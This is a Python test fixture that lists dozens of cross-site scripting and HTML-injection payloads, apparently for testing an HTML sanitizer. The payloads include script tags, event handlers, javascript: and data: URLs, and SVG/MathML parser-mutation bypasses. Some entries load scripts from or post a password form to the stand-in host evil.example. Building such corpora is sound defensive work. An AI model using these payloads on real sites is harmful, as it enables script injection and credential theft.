"""Our own small corpus: a form or two of each class of attack on a page that shows other people's mark-up.

Written from the classes, not taken from a collection. Each calls `alert(1)`, loads `https://evil.example/…`, sends a
form, breaks out of what surrounds it, or names who follows a link.
"""

from __future__ import annotations

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<script\n>alert(1)</script\t>",
    "<script>/*</p>*/alert(1)//</script",
    "<script type='text/x'>a</script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<title><script>alert(1)</script></title><textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "\x00<scr\x00ipt>alert(1)</script>",
)
HANDLERS: Final = (
    "<p onclick=alert(1)>Ravens nest</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=x OnErRoR\n=\nalert(1)>",
    "<body onload=alert(1)><p>Ravens</p>",
    "<details open ontoggle=alert(1)><summary>More</summary>ravens</details>",
    "<a href=https://example.org/ onmouseover='alert(1)'>read</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>ravens</marquee>",
    "<p title='a' onpointerenter=alert(1) title=\"\">x</p>",
    '<p title="a"onclick="alert(1)">x</p>',
    "<a href='x'\x0conclick=alert(1)>x</a>",
)
ADDRESSES: Final = (
    "<a href=javascript:alert(1)>read</a>",
    "<a href='  JaVaScRiPt:alert(1)'>read</a>",
    "<a href='java\tscript:alert(1)'>read</a>",
    "<a href='java&#10;script:alert(1)'>read</a>",
    "<a href='&#x6a;avascript&colon;alert(1)'>read</a>",
    "<a href='&#0000106avascript:alert(1)'>read</a>",
    "<a href='\x01javascript:alert(1)'>read</a>",
    "<a href='javascript&Tab;:alert(1)'>read</a>",
    "<a href='vbscript:msgbox(1)'>read</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>read</a>",
    "<a href='view-source:javascript:alert(1)'>read</a>",
    "<a href='blob:https://evil.example/1'>read</a>",
    "<a href='file:///etc/passwd'>read</a>",
    "<base href='javascript:alert(1)//'><a href='/x'>read</a>",
    "<area shape=default href=javascript:alert(1)>",
)
BARE: Final = (
    "javascript:alert(1)",
    "  JAVASCRIPT:alert(1)",
    "java\tscript\n:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://user:pass@evil.example\\@example.org/",
    "http://[::1/",
    "https://example.org/?utm_campaign=a&page=2",
)
"""Addresses by themselves, for the fields that hold one."""
LOADS: Final = (
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/a><img alt=''></picture>",
    "<input type=image src=https://evil.example/a>",
    "<table background=https://evil.example/a><tr><td background=https://evil.example/b>x</td></tr></table>",
    "<p style=\"background:url('https://evil.example/a')\">x</p>",
    "<p style='width:expression(alert(1));-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='background:\\75rl(//evil.example/a)'>x</p>",
    "<style>@import url(//evil.example/a.css); p{color:red}</style><p>x</p>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/b>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/a><embed src=https://evil.example/b></object>",
    "<audio src=https://evil.example/a autoplay></audio><video poster=https://evil.example/b></video>",
    "<a ping=https://evil.example/ href=https://example.org/>read</a>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<portal src=https://evil.example/></portal><fencedframe></fencedframe>",
)
FORMS: Final = (
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button form=search formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select><option>a</option></select><keygen autofocus onfocus=alert(1)>",
)
FOREIGN: Final = (
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/a /><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi><mglyph><svg><title><style><img src=x onerror=alert(1)></style></title></svg></mglyph></mi></math>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext><script>alert(1)</script>",
    "<b><p><b><p><table><td><a href=1><table><a href=javascript:alert(1)>x",
)
TRACKERS: Final = (
    "<a href='https://example.org/a?utm_source=news&utm_medium=email&id=3'>read</a>",
    "<a href='https://example.org/b?fbclid=abc'>read</a>",
    "<a href='https://example.org/c?gclid=abc&mc_eid=def#top'>read</a>",
    "<a href='https://www.google.com/url?q=https://example.org/d&sa=D'>read</a>",
)
BREAKOUTS: Final = (
    "]]>'\"--></title></p></div></body></html><img src=x onerror=alert(1)>",
    "</article></main><script>alert(1)</script><main><article>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{constructor.constructor('alert(1)')()}}<p ng-app>${alert(1)}</p>",
    "<p id=location name=cookie class=govuk-button style=position:fixed;inset:0>Sign in again</p>",
    "\ufeff+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p>\u202egnp.exe\u202c \u2066ravens\u2069</p>",
)

VECTORS: Final = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *BARE, *LOADS, *FORMS, *FOREIGN, *TRACKERS, *BREAKOUTS,
)  # fmt: skip
